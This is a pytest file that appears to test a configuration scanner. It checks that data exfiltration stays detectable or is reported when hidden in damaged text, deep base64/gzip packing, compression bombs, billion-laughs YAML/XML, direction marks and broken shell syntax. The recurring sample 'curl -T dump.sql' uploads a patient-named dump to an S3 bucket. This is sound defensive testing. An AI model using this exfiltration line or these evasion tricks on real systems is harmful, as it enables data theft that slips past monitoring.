"""Damaged, endless and hostile texts: read as far as the bounds allow, told beyond them, and never a silent pass."""

from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import zlib
from collections.abc import Callable
from itertools import pairwise
from random import Random

import pytest

from rempart.meaning.findings import Document, Spot, Tree
from rempart.meaning.findings import Value as Text
from rempart.meaning.unfold import Unfolding
from rempart.model.finding import Outcome
from rempart.model.mention import Reading, Role
from rempart.model.values import Properties
from tests.gate.test_gate_verdicts import INSTANCE, OVHCLOUD, UNTOLD, verdict
from tests.meaning.tables import facts, rows

STORE = "patients.s3.eu-west-3.amazonaws.com"
UPLOAD = f"curl -T dump.sql https://{STORE}/"
TEXTS = tuple((row.key, row.text) for row in rows() if row.text)
DAMAGED_TEXTS = 1_500
MANY = 10_000
CHANGED = 6
"""The fault that changes characters in their place."""
ODD = (
    *("\0", "\ud800", "\udfff", "\u202e", "\u2066", "\u200f", "\ufeff", "\x1b[2J", "\x7f", "\x85", "\u2028", "\ufffd"),
    *("%ff", r"\ud800", r"\xff", "&#xd800;", "&#0;", "{{", "}}", "${", "$(", "`", "'", '"', "<<END\n", "]]>", "<!--"),
    *("%{", "\\", "#cloud-config\n", "\r", "\t", "https://", "@", "[::", "xn--", "\U0010ffff", "\U0001f600", "é"),
)
"""Control characters, marks of direction, halves of surrogate pairs, and openings of every grammar."""


def read(text: str, key: str = "userData") -> Reading:
    return Unfolding(facts()).read(Document(text, Spot(key=key)))


def is_found_or_told(reading: Reading) -> bool:
    """Whether the store is a destination, or something is said not to be read."""
    return bool(reading.unread) or any(
        mention.host.name.endswith("amazonaws.com") and mention.role in (Role.SENDS, Role.FETCHES)
        for mention in reading.mentions
    )


def encoded(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def damaged(text: str, random: Random) -> str:
    """Return a text with one to four faults in it."""
    for _ in range(random.randint(1, 4)):
        start = random.randrange(len(text) + 1)
        end = min(len(text), start + random.randrange(1, 40))
        odd, other = random.choice(ODD), random.choice(TEXTS)[1]
        fault = random.randrange(7)
        text = (
            text[:start],
            text[start:],
            text[:end] + text[start:],
            text[:start] + text[end:],
            text[:start] + odd + text[start:],
            text[:start] + other[random.randrange(30) :],
            text[:start] + "".join(chr(ord(character) ^ 1 << random.randrange(8)) for character in text[start:end]),
        )[fault] + (text[end:] if fault == CHANGED else "")
        if random.randrange(5) == 0:
            raw = bytearray(text.encode("utf-8", "surrogatepass"))
            raw[len(raw) // 2 : len(raw) // 2] = random.randbytes(3)
            text = raw.decode("utf-8", random.choice(("replace", "surrogateescape")))
    return text


def test_no_damage_to_a_text_makes_the_reader_fail() -> None:
    random = Random(1)  # noqa: S311 - the same damage in every run

    for _ in range(DAMAGED_TEXTS):
        key, text = random.choice(TEXTS)
        for kind in (Document, Text):
            assert isinstance(Unfolding(facts()).read(kind(damaged(text, random), Spot(key=key))), Reading)


@pytest.mark.parametrize(
    "text", ["https://a%ff\ud800.x.fr", "https://é\udfff.x.fr", "data:,%ff\ud800", "\ud800@x.fr:22"]
)
def test_half_of_a_surrogate_pair_is_read_like_any_other_character(text: str) -> None:
    assert isinstance(Unfolding(facts()).read(Text(text, Spot(key="endpoint"))), Reading)


@pytest.mark.parametrize("text", ["discovery:", "service:jmx:"])
def test_a_list_of_servers_without_a_server_makes_no_reader_fail(text: str) -> None:
    assert not Unfolding(facts()).read(Text(text, Spot(key="broker"))).mentions


HUGE = 50_000_000
IN_RESOURCES: dict[str, Callable[[str], tuple[str, Properties]]] = {
    "user data": lambda text: (INSTANCE, {"userData": text}),
    "a property": lambda text: (INSTANCE, {"description": text}),
    "a label": lambda text: (INSTANCE, {"metadata": {"endpoint": text}}),
}


@pytest.mark.parametrize("place", IN_RESOURCES.values(), ids=IN_RESOURCES)
@pytest.mark.parametrize("piece", ["a.b ", "#!/bin/sh\n", "QUFBQUFB"], ids=["words", "lines", "base64"])
def test_a_text_of_fifty_megabytes_is_told_and_not_read(
    place: Callable[[str], tuple[str, Properties]], piece: str
) -> None:
    text = piece * (HUGE // len(piece)) + f"\n{UPLOAD}\n"

    found = verdict("openstack", OVHCLOUD, place(text))

    assert found.exit_code == UNTOLD
    assert any("longer than" in item.message + item.reason for item in found.findings if item.stops)


def test_a_file_of_fifty_megabytes_in_a_config_map_is_told() -> None:
    text = "a.b\n" * (HUGE // 4) + UPLOAD
    manifest = ("kubernetes:core/v1:ConfigMap", {"metadata": {"name": "x"}, "data": {"run.sh": text}})

    found = verdict("kubernetes", {}, manifest)

    assert any(
        "longer than" in item.message + item.reason for item in found.findings if item.outcome is Outcome.UNDETERMINED
    )


PACKINGS: dict[str, Callable[[str], str]] = {
    "base64": lambda text: encoded(text.encode()),
    "gzip": lambda text: encoded(gzip.compress(text.encode())),
    "a data URL": lambda text: f"data:;base64,{encoded(text.encode())}",
}


@pytest.mark.parametrize("pack", PACKINGS.values(), ids=PACKINGS)
@pytest.mark.parametrize("kind", [Document, Text])
def test_packing_fifty_levels_deep_is_told(pack: Callable[[str], str], kind: type[Document | Text]) -> None:
    text, level = f"#!/bin/sh\n{UPLOAD}\n", 0
    while level < 50 and len(text) < 900_000:
        text, level = pack(text), level + 1

    assert Unfolding(facts()).read(kind(text, Spot(key="userData"))).unread


COMMANDS = "".join(f"echo {number * 7919}\n" for number in range(3_000)).encode() + UPLOAD.encode()
BOMBS = {
    "gzip": gzip.compress(b"a" * 30_000_000),
    "zlib": zlib.compress(b"a" * 30_000_000),
    "xz": lzma.compress(b"a" * 30_000_000),
    "bzip2": bz2.compress(b"a" * 30_000_000),
    "gzip of one byte too many": gzip.compress(b"a" * 1_000_001),
    "gzip that is cut": gzip.compress(COMMANDS)[:-400],
    "xz that is cut": lzma.compress(COMMANDS)[:-400],
    "bzip2 that is cut": bz2.compress(COMMANDS)[:-400],
    "gzip with a second member": gzip.compress(b"echo\n") + gzip.compress(UPLOAD.encode()),
    "xz with a second member": lzma.compress(b"echo\n") + lzma.compress(UPLOAD.encode()),
    "bzip2 with a second member": bz2.compress(b"echo\n") + bz2.compress(UPLOAD.encode()),
    "gzip with a thousand members": gzip.compress(b"\n") * 1_000 + gzip.compress(UPLOAD.encode()),
    "gzip with an end of its own": gzip.compress(b"echo\n") + UPLOAD.encode(),
}


def in_mime(raw: bytes) -> str:
    head = "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64"
    return f"Content-Type: multipart/mixed; boundary=B\n\n--B\n{head}\n\n{encoded(raw)}\n--B--\n"


def in_write_files(raw: bytes) -> str:
    files = [{"path": "/opt/x", "encoding": "gz+b64", "content": encoded(raw)}]
    return "#cloud-config\n" + json.dumps({"write_files": files})


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
@pytest.mark.parametrize("wrap", [encoded, in_mime, in_write_files])
def test_compressed_data_that_is_not_unpacked_whole_is_told(bomb: bytes, wrap: Callable[[bytes], str]) -> None:
    assert is_found_or_told(read(wrap(bomb)))


def test_bytes_that_are_a_bomb_are_told() -> None:
    tree = {"write_files": [{"path": "/opt/x", "content": BOMBS["xz"]}]}

    assert Unfolding(facts()).read(Tree(tree, Spot())).unread


NAMES = "abcdefghijk"
NINEFOLD = "".join(f"{name}: &{name} [{', '.join([f'*{above}'] * 9)}]\n" for above, name in pairwise(NAMES))
MERGED = "".join(f"{name}: &{name}\n  <<: [{', '.join([f'*{above}'] * 9)}]\n" for above, name in pairwise(NAMES))
ENTITIES = "".join(f'<!ENTITY {name} "{f"&{above};" * 10}">' for above, name in pairwise(NAMES))
ENDLESS = {
    "billion laughs": ("x.yaml", f"a: &a [x]\n{NINEFOLD}z: https://{STORE}\n"),
    "billion laughs in a cloud-config": ("userData", f"#cloud-config\na: &a [x]\n{NINEFOLD}z: https://{STORE}\n"),
    "mappings merged ninefold": ("x.yaml", f"a: &a {{x: 1}}\n{MERGED}z: https://{STORE}\n"),
    "a mapping merged into itself": ("x.yaml", f"a: &a\n  <<: *a\nz: https://{STORE}\n"),
    "a list in itself": ("x.yaml", f"a: &a [*a]\nz: https://{STORE}\n"),
    "commands in themselves": ("userData", f"#cloud-config\nruncmd: &a [*a]\nz: https://{STORE}\n"),
    "files in themselves": ("userData", f"#cloud-config\nwrite_files: &a [*a]\nz: https://{STORE}\n"),
    "an environment in itself": ("x.yaml", f"env: &a [*a]\nz: https://{STORE}\n"),
    "services in themselves": ("docker-compose.yml", f"services: &a {{x: *a}}\nz: https://{STORE}\n"),
    "a list as its own key": ("x.yaml", f"? &a [*a]\n: https://{STORE}\n"),
    "entities": ("x.xml", f'<!DOCTYPE l [<!ENTITY a "ha">{ENTITIES}]><l><x>&k;</x><url>https://{STORE}</url></l>'),
    "a long entity": (
        "x.xml",
        f'<!DOCTYPE l [<!ENTITY a "{"a" * 50_000}">]><l><x>{"&a;" * MANY}</x><url>https://{STORE}</url></l>',
    ),
    "messages in messages": ("userData", "Content-Type: message/rfc822\n\n" * 3_000 + f"#!/bin/sh\n{UPLOAD}\n"),
    "parts without number": (
        "userData",
        "Content-Type: multipart/mixed; boundary=B\n\n" + "--B\n\nx\n" * 600 + f"--B\n\n#!/bin/sh\n{UPLOAD}\n--B--\n",
    ),
}


@pytest.mark.parametrize(("key", "text"), ENDLESS.values(), ids=ENDLESS)
def test_what_unfolds_without_end_is_told_or_passed_over(key: str, text: str) -> None:
    assert is_found_or_told(read(text, key))


NESTINGS = ("[", "{", "(", "$(", "${a:-", '"', "'", "`", "<a>", "[[ ", "$((", "<(", "if true; then ", '{"a":', "<!--")


@pytest.mark.parametrize("opening", NESTINGS)
def test_ten_thousand_openings_hide_no_command_behind_them(opening: str) -> None:
    assert is_found_or_told(read(f"#!/bin/sh\n{opening * MANY}\n{UPLOAD}\n"))


@pytest.mark.parametrize("opening", NESTINGS)
@pytest.mark.parametrize("name", ["x.xml", "x.toml", "x.conf", "x.sql", "x.tf", "userData"])
def test_ten_thousand_openings_hide_no_setting_behind_them(opening: str, name: str) -> None:
    assert is_found_or_told(read(f'{opening * MANY}\nendpoint = "https://{STORE}"\n', f"/etc/{name}"))


BEYOND = {
    "commands": f"#!/bin/sh\n{'true;' * 10_001}{UPLOAD}",
    "commands that are piped": f"#!/bin/sh\n{'cat | ' * 10_001}{UPLOAD}",
    "tokens": f"#!/bin/sh\necho {'a ' * 41_000};{UPLOAD}",
    "parts of a word": f"#!/bin/sh\ncurl -T x {'$a' * 2_100}https://{STORE}",
    "shells in shells": "#!/bin/sh\n" + "sh -c 'eval " * 50 + UPLOAD,
    "wrappers": f"#!/bin/sh\n{'sudo ' * 50}{UPLOAD}",
    "functions that call themselves": f"#!/bin/sh\nf() {{ f $1x; f $1y; }}\nf a\n{UPLOAD}",
    "pieces of a program": "#!/usr/bin/python3\n" + "x=1\n" * 30_000 + f"requests.put('https://{STORE}/x')",
    "a literal of a program": f"#!/usr/bin/python3\nx = '{'a' * 100_001}'\nrequests.put('https://{STORE}')",
    "attributes": "<a " + " ".join(f'b{number}="c"' for number in range(5_000)) + f' url="https://{STORE}"/>',
    "one line": "a" * 900_000 + f" https://{STORE}",
}


@pytest.mark.parametrize("text", BEYOND.values(), ids=BEYOND)
def test_what_stands_behind_a_bound_is_found_or_told(text: str) -> None:
    assert is_found_or_told(read(text))


@pytest.mark.parametrize("words", ["a " * 5_001, "n1.chu.lan," * 5_001])
def test_an_address_behind_too_many_words_is_told(words: str) -> None:
    reading = Unfolding(facts()).read(Text(f"{words}sauvegarde.vendor.com", Spot(key="hosts")))

    assert any("too many words" in reason.why for reason in reading.unread.values())


UNGRAMMATICAL = {
    "a quote without an end": f"echo 'a\n{UPLOAD}",
    "two quotes without an end": f'echo "a\n{UPLOAD}',
    "a here-document without an end": f"bash <<'FIN'\n{UPLOAD}",
    "a substitution without an end": f"X=$({UPLOAD}",
    "a backtick without an end": f"X=`{UPLOAD}",
    "an if without fi": f"if true; then\n{UPLOAD}",
    "a case without esac": f"case $x in\n a) {UPLOAD}",
    "a loop without done": f"for i in a b; do {UPLOAD}",
    "a function without an end": f"f() {{\n{UPLOAD}",
    "ends without beginnings": f"esac; fi; done; }}\n{UPLOAD}",
    "brackets": f")))) {UPLOAD}",
    "operators": f"&& | || ;;& {UPLOAD}",
    "redirections": f"<<< <<< {UPLOAD}",
    "a parameter without an end": f"${{x {UPLOAD}",
    "arithmetic without an end": f"$((1+ {UPLOAD}",
    "an escaped quote without an end": f"$'abc {UPLOAD}",
    "a test without an end": f"[[ a {UPLOAD}",
    "bytes of a program": f"\0\x01\ufffd\x7fELF\x02 {UPLOAD}\0\0",
    "halves of surrogate pairs": f"\ud800\udfff\0 {UPLOAD}\0",
    "colours": f"\x1b[31m{UPLOAD}\x1b[0m",
    "marks of direction": f"\u202e{UPLOAD}\u202c",
    "a mark of direction in the name": UPLOAD.replace(".amazon", ".\u200eamazon"),
    "a blank of no width in the name": UPLOAD.replace("amazon", "amaz\u200bon"),
    "a quote in a comment": f"echo a #'\n{UPLOAD}",
    "ten thousand quotes": "'" * 9_999 + UPLOAD,
    "Latin-1": ("é " + UPLOAD).encode("latin-1").decode("utf-8", "surrogateescape"),
}
IN_SCRIPTS: dict[str, Callable[[str], str]] = {
    "a script": lambda text: f"#!/bin/bash\n{text}\n",
    "no form": lambda text: text,
    "runcmd": lambda text: "#cloud-config\n" + json.dumps({"runcmd": [text]}),
    "a shell of runcmd": lambda text: "#cloud-config\n" + json.dumps({"runcmd": [["sh", "-c", text]]}),
}


@pytest.mark.parametrize("wrap", IN_SCRIPTS.values(), ids=IN_SCRIPTS)
@pytest.mark.parametrize("script", UNGRAMMATICAL.values(), ids=UNGRAMMATICAL)
def test_a_script_that_no_grammar_accepts_hides_no_host(script: str, wrap: Callable[[str], str]) -> None:
    assert is_found_or_told(read(wrap(script)))
